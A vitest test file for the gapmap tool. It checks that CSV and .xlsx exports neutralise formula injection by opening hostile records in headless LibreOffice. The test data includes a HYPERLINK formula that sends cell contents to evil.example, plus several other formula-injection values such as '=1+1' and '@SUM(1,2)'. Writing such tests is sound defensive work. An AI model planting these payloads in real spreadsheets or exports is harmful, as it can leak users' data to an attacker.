/**
 * CSV injection, checked in a real spreadsheet: a page title like `=HYPERLINK(...)` saved in a
 * record is exported as CSV (the inventory, and `gapmap assess --format csv`) and opened by
 * LibreOffice headless, which converts it to .xlsx. The cell must be plain text there, with no
 * formula. The .xlsx exports keep such cells as strings too. Fails loudly (never skips) when
 * LibreOffice is missing; .ci/run installs it.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import * as XLSX from "@e965/xlsx";
import { beforeAll, describe, expect, it } from "vitest";
import { main, memoryIo } from "@gapmap/cli";
import { fromCsv, inventorySchema, toCsv, toXlsx, type Inventory } from "@gapmap/core";
import { convertWithLibreOffice, requireLibreOffice } from "../support/libreoffice";

const dir = mkdtempSync(join(tmpdir(), "gapmap-csv-injection-"));
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the data")';
const HOSTILE_ID = "=1+1";

const hostile: Inventory = inventorySchema.parse({
  schemaVersion: 1,
  records: [
    {
      id: HOSTILE_ID,
      indicators: ["flow-asylum-applications"],
      location: {
        kind: "web",
        url: "https://stat.example/asylum",
        title: HOSTILE_TITLE,
        selectors: [{ type: "TextQuoteSelector", exact: "demandes d'asile" }],
      },
      title: HOSTILE_TITLE,
      producer: "@SUM(1,2)",
      years: [2014],
      periodicity: "annual",
      breakdowns: [],
      geography: "national",
      access: "public",
      quality: [],
      notes: "-2+3",
      origin: "extension",
    },
  ],
});

/** LibreOffice opens `file` (CSV, UTF-8, comma) as a user would and saves it as .xlsx. */
function openInLibreOffice(file: string): XLSX.WorkSheet {
  const outDir = join(dir, `lo-${basename(file)}`);
  mkdirSync(outDir, { recursive: true });
  convertWithLibreOffice({
    file,
    target: "xlsx",
    outDir,
    workDir: dir,
    // Comma, double quote, UTF-8, from line 1, quoted fields not forced to text, and token 13
    // "evaluate formulas" on (LibreOffice's default in the import dialog).
    inputFilter: "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
  });
  const saved = readFileSync(join(outDir, basename(file).replace(/\.csv$/, ".xlsx")));
  const book = XLSX.read(saved, { type: "buffer", cellFormula: true });
  const sheet = book.Sheets[book.SheetNames[0] ?? ""];
  if (sheet === undefined) throw new Error(`LibreOffice wrote no sheet for ${file}`);
  return sheet;
}

/** Every cell whose text mentions `needle`: its type, value and formula (if any). */
function cellsWith(sheet: XLSX.WorkSheet, needle: string) {
  return Object.entries(sheet)
    .filter(([address]) => !address.startsWith("!"))
    .map(([, cell]) => cell as XLSX.CellObject)
    .filter((cell) => String(cell.v).includes(needle) || (cell.f ?? "").includes(needle));
}

/** `gapmap assess` on the hostile inventory, written to `out` (its format from the extension). */
async function assessHostile(out: string): Promise<void> {
  const inventoryJson = join(dir, `${basename(out)}.inventory.json`);
  writeFileSync(inventoryJson, JSON.stringify(hostile));
  const io = memoryIo();
  const args = ["--needs", "migration-profile-core", "--inventory", inventoryJson, "--out", out];
  const code = await main(["assess", ...args], io);
  if (code !== 0) throw new Error(io.stderr());
}

let inventorySheet: XLSX.WorkSheet;
let matrixSheet: XLSX.WorkSheet;

beforeAll(async () => {
  requireLibreOffice();
  const inventoryCsv = join(dir, "inventory.csv");
  writeFileSync(inventoryCsv, toCsv(hostile));
  inventorySheet = openInLibreOffice(inventoryCsv);

  const matrixCsv = join(dir, "matrix.csv");
  await assessHostile(matrixCsv);
  matrixSheet = openInLibreOffice(matrixCsv);
}, 300_000);

describe("CSV exports opened in LibreOffice", () => {
  it("the inventory CSV: the hostile title, producer and notes are text, not formulas", () => {
    for (const needle of ["HYPERLINK", "SUM(1,2)", "-2+3"]) {
      const cells = cellsWith(inventorySheet, needle);
      expect(cells.length, needle).toBeGreaterThan(0);
      for (const cell of cells) {
        expect(cell.f, needle).toBeUndefined();
        expect(cell.t, needle).toBe("s");
      }
    }
    // Two cells hold the title: the record's and the page's.
    expect(cellsWith(inventorySheet, "HYPERLINK")).toHaveLength(2);
  });

  it("gapmap assess to .csv: the hostile record ID is text, not a formula", () => {
    const cells = cellsWith(matrixSheet, "=1+1");
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) {
      expect(cell.f).toBeUndefined();
      expect(cell.t).toBe("s");
    }
    // Evaluated, the formula would have left a 2 in that column and no "=1+1" anywhere.
    expect(cellsWith(matrixSheet, "1+1").every((cell) => cell.t === "s")).toBe(true);
  });

  it("reading the exported CSV back gives the original text, apostrophes removed", () => {
    expect(fromCsv(toCsv(hostile))).toStrictEqual(hostile);
  });
});

describe(".xlsx exports", () => {
  it("keep formula-like text as strings", async () => {
    const workbook = XLSX.read(await toXlsx(hostile), { type: "buffer", cellFormula: true });
    const cells = Object.values(workbook.Sheets).flatMap((sheet) => cellsWith(sheet, "HYPERLINK"));
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) {
      expect(cell.f).toBeUndefined();
      expect(cell.t).toBe("s");
      expect(cell.v).toBe(HOSTILE_TITLE);
    }
  });

  it("the gap-matrix workbook keeps the hostile record ID as a string", async () => {
    const out = join(dir, "matrix.xlsx");
    await assessHostile(out);
    const workbook = XLSX.read(readFileSync(out), { type: "buffer", cellFormula: true });
    const cells = Object.values(workbook.Sheets).flatMap((sheet) => cellsWith(sheet, "=1+1"));
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) {
      expect(cell.f).toBeUndefined();
      expect(cell.t).toBe("s");
    }
  });
});
